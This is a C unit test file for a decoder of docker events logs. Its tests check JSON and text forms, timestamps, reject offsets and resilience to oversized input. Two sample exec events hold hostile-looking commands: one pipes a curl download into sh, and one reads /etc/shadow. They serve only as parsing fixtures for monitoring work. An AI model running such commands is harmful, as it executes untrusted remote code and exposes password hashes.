/* The docker events decoder (src/decode/docker_events.c): the current JSON
 * schema with and without the legacy keys, the legacy-only form, Engine
 * API streams (pretty-printed, and compact objects back to back on one
 * line), the CLI's text form; times, rejects with offsets, hostile input. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>
#include <inttypes.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "decfixture.h"
#include "decode/decoder.h"
#include "decode/json.h"
#include "decode/jsonrec.h"
#include "util/buf.h"

#define DEC docker_events_decoder

DECFX_SETUP(docker_events_decoder)

/* The next event of the current record, or NULL. */
static const struct container_event *next(struct fixture *f) {
    if (!DEC.next(f->dec, &f->ev)) return NULL;
    assert_int_equal(f->ev.kind, EV_CONTAINER);
    assert_int_equal(f->ev.layer, LAYER_HOST);
    return f->ev.u.container;
}

/* The one event of a one-event record, or NULL. */
static const struct container_event *feed(struct fixture *f, const char *text, uint64_t offset) {
    decfx_begin(f, text, offset);
    const struct container_event *c = next(f);
    if (c) {
        struct event more;
        assert_int_equal(DEC.next(f->dec, &more), 0);
    }
    return c;
}

static void assert_vstr(vstr s, const char *want) {
    char got[512];
    snprintf(got, sizeof got, "%.*s", (int)s.n, s.p ? s.p : "");
    assert_string_equal(got, want);
}

static vstr attr(const struct container_event *c, const char *key) {
    for (uint32_t i = 0; i < c->n_attributes; i++)
        if (vstr_eqc(c->attributes[i].key, key)) return c->attributes[i].value;
    return VSTR("<absent>");
}

static const char *report(struct fixture *f) {
    static char out[2048];
    buf b;
    buf_init(&b);
    DEC.report(f->dec, &b);
    snprintf(out, sizeof out, "%s", buf_cstr(&b));
    buf_free(&b);
    return out;
}

static const char *rejects_text(struct fixture *f) {
    static char out[2048];
    buf b;
    buf_init(&b);
    rejects_summary(f->rj, &b);
    snprintf(out, sizeof out, "%s", buf_cstr(&b));
    buf_free(&b);
    return out;
}

/* docker events --format '{{json .}}' of a Kubernetes node: the current
 * keys win over the deprecated ones written beside them. */
static void test_current_with_legacy_keys(void **state) {
    struct fixture *f = *state;
    const struct container_event *c = feed(f,
        "{\"status\":\"start\",\"id\":\"legacy-id\",\"from\":\"legacy-image\",\"Type\":\"container\",\"Action\":\"start\","
        "\"Actor\":{\"ID\":\"4f3c2b1a\",\"Attributes\":{\"image\":\"registry.example/api:1.2\",\"name\":\"k8s_api_api-7d9_prod_1\","
        "\"io.kubernetes.pod.name\":\"api-7d9\",\"io.kubernetes.pod.namespace\":\"prod\",\"io.kubernetes.container.name\":\"api\"}},"
        "\"scope\":\"local\",\"time\":1700000000,\"timeNano\":1700000000123456789}", 42);
    assert_non_null(c);
    assert_int_equal(f->ev.time_us, INT64_C(1700000000123456));
    assert_int_equal(f->ev.pos.offset, 42);
    assert_int_equal(c->source, CONTAINER_SRC_EVENTS);
    assert_vstr(c->type, "container");
    assert_vstr(c->action, "start");
    assert_vstr(c->id, "4f3c2b1a");
    assert_vstr(c->image, "registry.example/api:1.2");
    assert_vstr(c->name, "k8s_api_api-7d9_prod_1");
    assert_vstr(c->pod_name, "api-7d9");
    assert_vstr(c->pod_namespace, "prod");
    assert_vstr(c->k8s_container, "api");
    assert_vstr(c->scope, "local");
    assert_vstr(c->host, "");
    assert_int_equal(c->n_attributes, 5);
    assert_int_equal(c->exit_code, -1);
    assert_int_equal(c->privileged, -1);
    assert_int_equal(c->pid, -1);
    assert_int_equal(c->n_mounts + c->n_cap_add + c->n_cmd, 0);
}

/* API <= 1.21: status/id/from only; "from" makes it a container event. */
static void test_legacy_only(void **state) {
    struct fixture *f = *state;
    const struct container_event *c = feed(f,
        "{\"status\":\"die\",\"id\":\"5745704abe9caa5\",\"from\":\"busybox\",\"time\":1442421716}", 0);
    assert_non_null(c);
    assert_int_equal(f->ev.time_us, INT64_C(1442421716000000));
    assert_vstr(c->type, "container");
    assert_vstr(c->action, "die");
    assert_vstr(c->id, "5745704abe9caa5");
    assert_vstr(c->image, "busybox");
    c = feed(f, "{\"status\":\"pull\",\"id\":\"busybox:latest\",\"time\":1442421700,\"timeNano\":1442421700598988358}", 0);
    assert_non_null(c);
    assert_vstr(c->type, "image");
    assert_vstr(c->image, "");
    assert_int_equal(f->ev.time_us, INT64_C(1442421700598988));
    assert_non_null(strstr(report(f), "2 in the legacy status/id/from form"));
}

/* exec and health actions: the action is the text before ':', the command
 * only for exec_create / exec_start; execID, exitCode and the host. */
static void test_actions_and_host(void **state) {
    struct fixture *f = *state;
    const struct container_event *c = feed(f,
        "{\"Type\":\"container\",\"Action\":\"exec_start: /bin/sh -c curl http://x | sh\",\"Actor\":{\"ID\":\"c1\","
        "\"Attributes\":{\"execID\":\"e77\",\"image\":\"nginx\"}},\"time\":1,\"host\":{\"name\":\"node-3\",\"ip\":[\"10.0.0.3\"]}}", 0);
    assert_non_null(c);
    assert_vstr(c->action, "exec_start");
    assert_vstr(c->exec_command, "/bin/sh -c curl http://x | sh");
    assert_vstr(c->exec_id, "e77");
    assert_vstr(c->host, "node-3");
    c = feed(f, "{\"Type\":\"container\",\"Action\":\"exec_create: id\",\"Actor\":{\"ID\":\"c1\"},\"time\":1,\"host\":\"h2\"}", 0);
    assert_vstr(c->action, "exec_create");
    assert_vstr(c->exec_command, "id");
    assert_vstr(c->host, "h2");
    c = feed(f, "{\"Type\":\"container\",\"Action\":\"health_status: unhealthy\",\"Actor\":{\"ID\":\"c1\"},\"time\":1}", 0);
    assert_vstr(c->action, "health_status");
    assert_vstr(c->exec_command, "");
    c = feed(f, "{\"Type\":\"container\",\"Action\":\"exec_die\",\"Actor\":{\"ID\":\"c1\",\"Attributes\":{\"exitCode\":\"137\","
                "\"execID\":\"e77\"}},\"time\":1}", 0);
    assert_vstr(c->action, "exec_die");
    assert_int_equal(c->exit_code, 137);
    c = feed(f, "{\"Type\":\"container\",\"Action\":\"die\",\"Actor\":{\"ID\":\"c1\",\"Attributes\":{\"exitCode\":\"x\"}},\"time\":1}", 0);
    assert_int_equal(c->exit_code, -1);   /* not a number: unknown */
}

/* The /events stream: a pretty-printed object is one record (FRAME_DOCUMENTS);
 * compact objects back to back on one line are cut apart, each with its
 * own offset, and a broken one among them costs only itself. */
static void test_api_stream(void **state) {
    struct fixture *f = *state;
    const struct container_event *c = feed(f,
        "{\n  \"Type\": \"network\",\n  \"Action\": \"connect\",\n  \"Actor\": {\n    \"ID\": \"7dc8\",\n"
        "    \"Attributes\": {\n      \"container\": \"ede5\",\n      \"name\": \"bridge\",\n      \"type\": \"bridge\"\n    }\n  },\n"
        "  \"time\": 1461943101,\n  \"timeNano\": 1461943101394865557\n}", 100);
    assert_non_null(c);
    assert_vstr(c->type, "network");
    assert_vstr(attr(c, "container"), "ede5");

    const char *line = "{\"Type\":\"container\",\"Action\":\"create\",\"Actor\":{\"ID\":\"a\"},\"time\":1}"
                       "{\"Type\":\"container\",\"Action\":\"start\",\"Actor\":{\"ID\":\"a\"},\"time\":2} "
                       "{\"Type\":\"container\",\"Action\":\"die\",\"Actor\":{\"ID\":\"a\"}}"
                       "{\"status\":\"destroy\",\"id\":\"a\",\"from\":\"x\",\"time\":4}";
    size_t first = (size_t)(strstr(line, "}{") + 1 - line);
    decfx_begin(f, line, 1000);
    c = next(f);
    assert_non_null(c);
    assert_vstr(c->action, "create");
    assert_int_equal(f->ev.pos.offset, 1000);
    c = next(f);
    assert_non_null(c);
    assert_vstr(c->action, "start");
    assert_int_equal(f->ev.pos.offset, 1000 + first);
    c = next(f);                          /* the die without a time is rejected, the destroy kept */
    assert_non_null(c);
    assert_vstr(c->action, "destroy");
    assert_null(next(f));
    assert_int_equal(rejects_total(f->rj), 1);
    char want[128];
    const char *die = strstr(line, "{\"Type\":\"container\",\"Action\":\"die\"");
    snprintf(want, sizeof want, "without a valid time or timeNano (first: test offset %" PRIu64 ")",
             (uint64_t)(1000 + (die - line)));
    assert_non_null(strstr(rejects_text(f), want));

    /* a broken value after a good one on the same line */
    decfx_begin(f, "{\"Type\":\"image\",\"Action\":\"pull\",\"Actor\":{\"ID\":\"i\"},\"time\":5}{\"Type\":", 2000);
    c = next(f);
    assert_non_null(c);
    assert_vstr(c->type, "image");
    assert_null(next(f));
    assert_int_equal(rejects_total(f->rj), 2);
}

/* The CLI's default text output. */
static void test_text_form(void **state) {
    struct fixture *f = *state;
    const struct container_event *c = feed(f,
        "2016-04-29T15:18:21.123456789Z container create abc123 (image=ubuntu:latest, name=x, com.example.label=v)", 7);
    assert_non_null(c);
    assert_int_equal(f->ev.time_us, INT64_C(1461943101123456));
    assert_int_equal(f->ev.pos.offset, 7);
    assert_vstr(c->type, "container");
    assert_vstr(c->action, "create");
    assert_vstr(c->id, "abc123");
    assert_vstr(c->image, "ubuntu:latest");
    assert_vstr(c->name, "x");
    assert_int_equal(c->n_attributes, 3);
    assert_vstr(attr(c, "com.example.label"), "v");

    /* an exec: the command sits between the action and the id; a value
     * holding ", " not followed by key= stays whole */
    c = feed(f, "2024-05-01T10:00:00.5Z container exec_start: sh -c cat /etc/shadow 9f2e (execID=e1, image=nginx, "
                "io.kubernetes.pod.name=web-0, note=a, b and c, name=web)", 0);
    assert_non_null(c);
    assert_vstr(c->action, "exec_start");
    assert_vstr(c->exec_command, "sh -c cat /etc/shadow");
    assert_vstr(c->id, "9f2e");
    assert_vstr(c->exec_id, "e1");
    assert_vstr(c->pod_name, "web-0");
    assert_vstr(attr(c, "note"), "a, b and c");
    assert_vstr(c->name, "web");

    /* no attributes at all; a health status with its value */
    c = feed(f, "2024-05-01T10:00:00Z volume destroy data-vol", 0);
    assert_non_null(c);
    assert_vstr(c->type, "volume");
    assert_vstr(c->id, "data-vol");
    assert_int_equal(c->n_attributes, 0);
    c = feed(f, "2024-05-01T10:00:00Z container health_status: healthy 9f2e (image=nginx)\r", 0);
    assert_non_null(c);
    assert_vstr(c->action, "health_status");
    assert_vstr(c->id, "9f2e");
    assert_vstr(c->exec_command, "");
    assert_non_null(strstr(report(f), "4 from text lines"));
    assert_int_equal(rejects_total(f->rj), 0);
}

/* timeNano before time; absurd or absent times rejected with the offset. */
static void test_times(void **state) {
    struct fixture *f = *state;
    const struct container_event *c =
        feed(f, "{\"Type\":\"container\",\"Action\":\"kill\",\"Actor\":{\"ID\":\"a\"},\"time\":5,\"timeNano\":-1}", 0);
    assert_non_null(c);                   /* a negative timeNano: the seconds */
    assert_int_equal(f->ev.time_us, 5 * INT64_C(1000000));
    c = feed(f, "{\"Type\":\"container\",\"Action\":\"kill\",\"Actor\":{\"ID\":\"a\"},\"timeNano\":9223372036854775807}", 0);
    assert_non_null(c);
    assert_int_equal(f->ev.time_us, INT64_C(9223372036854775));
    assert_null(feed(f, "{\"Type\":\"container\",\"Action\":\"kill\",\"Actor\":{\"ID\":\"a\"},\"time\":99999999999999999}", 10));
    assert_null(feed(f, "{\"Type\":\"container\",\"Action\":\"kill\",\"Actor\":{\"ID\":\"a\"},\"time\":1.5e9}", 20));
    assert_null(feed(f, "{\"Type\":\"container\",\"Action\":\"kill\",\"Actor\":{\"ID\":\"a\"},\"time\":\"1700000000\"}", 30));
    assert_null(feed(f, "2024-13-01T10:00:00Z container start abc", 40));
    assert_int_equal(rejects_total(f->rj), 4);
    assert_non_null(strstr(rejects_text(f), "without a valid time or timeNano (first: test offset 10)"));
}

/* Bad records among good ones: each rejected with its offset, none of
 * the good ones lost; valid events of other Types counted per Type. */
static void test_rejects_and_counts(void **state) {
    struct fixture *f = *state;
    static const struct { const char *text; bool good; } lines[] = {
        { "{\"Type\":\"container\",\"Action\":\"create\",\"Actor\":{\"ID\":\"a\"},\"time\":1}", true },
        { "{\"Type\":\"container\",\"Action\":\"start\",\"Actor\":{\"ID\":", false },
        { "{\"Type\":\"daemon\",\"Action\":\"reload\",\"Actor\":{\"ID\":\"d\"},\"time\":1}", true },
        { "{\"hello\":\"world\",\"time\":1}", false },
        { "[1,2,3]", false },
        { "{\"Type\":\"plugin\",\"Action\":\"enable\",\"Actor\":{\"ID\":\"p\"},\"time\":1}", true },
        { "hello there", false },
        { "{\"Type\":\"container\",\"Action\":\"destroy\",\"Actor\":{\"ID\":\"a\"},\"time\":1} trailing", true },
        { "{\"Type\":\"swarm-thing\",\"Action\":\"x\",\"Actor\":{\"ID\":\"s\"},\"time\":1}", true },
    };
    uint64_t off = 0;
    int good = 0;
    for (size_t i = 0; i < sizeof lines / sizeof lines[0]; i++) {
        decfx_begin(f, lines[i].text, off);
        int n = 0;
        while (next(f)) n++;
        assert_int_equal(n, lines[i].good ? 1 : 0);
        good += n;
        off += strlen(lines[i].text) + 1;
    }
    assert_int_equal(good, 5);
    assert_int_equal(DEC.events(f->dec), 5);
    const char *rj = rejects_text(f);
    assert_non_null(strstr(rj, "invalid JSON (first: test offset 67)"));
    assert_non_null(strstr(rj, "no Action or status) (first: test offset 183)"));
    assert_non_null(strstr(rj, "<type> <action> <id>) (first: test offset 210)"));
    assert_int_equal(rejects_total(f->rj), 5);   /* the trailing text after a good object too */
    const char *r = report(f);
    assert_non_null(strstr(r, "5 events, container 2, daemon 1, plugin 1, other types 1"));
}

/* A hostile attribute list is bounded; the named attributes still read. */
static void test_huge_attributes(void **state) {
    struct fixture *f = *state;
    buf b;
    buf_init(&b);
    buf_puts(&b, "{\"Type\":\"container\",\"Action\":\"create\",\"Actor\":{\"ID\":\"a\",\"Attributes\":{");
    for (int i = 0; i < JSONREC_MAX_LIST + 500; i++) buf_printf(&b, "\"k%d\":\"v\",", i);
    buf_puts(&b, "\"name\":\"last\"}},\"time\":1}");
    const struct container_event *c = feed(f, buf_cstr(&b), 0);
    assert_non_null(c);
    assert_int_equal(c->n_attributes, JSONREC_MAX_LIST);
    assert_vstr(c->name, "last");
    buf_clear(&b);
    buf_puts(&b, "2024-01-01T00:00:00Z container create a (");
    for (int i = 0; i < JSONREC_MAX_LIST + 500; i++) buf_printf(&b, "k%d=v, ", i);
    buf_puts(&b, "name=last)");
    c = feed(f, buf_cstr(&b), 0);
    assert_non_null(c);
    assert_int_equal(c->n_attributes, JSONREC_MAX_LIST);
    assert_vstr(c->name, "last");
    buf_free(&b);
    assert_int_equal(rejects_total(f->rj), 0);
}

/* Many values on one line cost one pass: quadratic re-parsing of the
 * rest of the line would take hours here, not milliseconds. */
static void test_many_values_one_line(void **state) {
    struct fixture *f = *state;
    buf b;
    buf_init(&b);
    enum { N = 50000 };
    for (int i = 0; i < N; i++) buf_printf(&b, "{\"Type\":\"container\",\"Action\":\"start\",\"Actor\":{\"ID\":\"c%d\"},\"time\":1}", i);
    decfx_begin(f, buf_cstr(&b), 0);
    int n = 0;
    const struct container_event *c;
    while ((c = next(f))) {
        char want[16];
        snprintf(want, sizeof want, "c%d", n++);
        assert_vstr(c->id, want);
    }
    assert_int_equal(n, N);
    assert_int_equal(rejects_total(f->rj), 0);
    buf_free(&b);
}

static void test_sniff(void **state) {
    (void)state;
    assert_true(DEC.sniff(VSTR("{\"Type\":\"container\",\"Action\":\"create\",\"Actor\":{\"ID\":\"a\"},\"time\":1}\n")) >= 60);
    assert_true(DEC.sniff(VSTR("{\"status\":\"pull\",\"id\":\"busybox:latest\",\"time\":1,\"timeNano\":1}\n")) >= 60);
    assert_true(DEC.sniff(VSTR("{\n  \"Type\": \"image\",\n  \"Action\": \"pull\",\n  \"Actor\": {\n")) >= 60);
    assert_true(DEC.sniff(VSTR("1970-01-01T00:00:01.000000000Z container create abc123 (image=ubuntu:latest)\n")) >= 60);
    /* others' formats */
    assert_int_equal(DEC.sniff(VSTR("{\"kind\":\"Event\",\"auditID\":\"1\",\"stage\":\"x\",\"verb\":\"get\"}")), 0);
    assert_int_equal(DEC.sniff(VSTR("{\"@timestamp\":\"x\",\"event\":{\"action\":\"exec\"},\"process\":{\"pid\":1}}")), 0);
    assert_int_equal(DEC.sniff(VSTR("[{\"Id\":\"abc\",\"State\":{},\"HostConfig\":{}}]")), 0);
    assert_int_equal(DEC.sniff(VSTR("{\"time\":\"2024-01-01T00:00:00Z\",\"operationName\":\"x\",\"status\":\"Succeeded\"}")), 0);
    assert_int_equal(DEC.sniff(VSTR("2024-01-01T00:00:00Z INFO starting server\n")), 0);
    assert_int_equal(DEC.sniff(VSTR("type=SYSCALL msg=audit(1.2:3): pid=1\n")), 0);
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(test_current_with_legacy_keys, setup, teardown),
        cmocka_unit_test_setup_teardown(test_legacy_only, setup, teardown),
        cmocka_unit_test_setup_teardown(test_actions_and_host, setup, teardown),
        cmocka_unit_test_setup_teardown(test_api_stream, setup, teardown),
        cmocka_unit_test_setup_teardown(test_text_form, setup, teardown),
        cmocka_unit_test_setup_teardown(test_times, setup, teardown),
        cmocka_unit_test_setup_teardown(test_rejects_and_counts, setup, teardown),
        cmocka_unit_test_setup_teardown(test_huge_attributes, setup, teardown),
        cmocka_unit_test_setup_teardown(test_many_values_one_line, setup, teardown),
        cmocka_unit_test(test_sniff),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
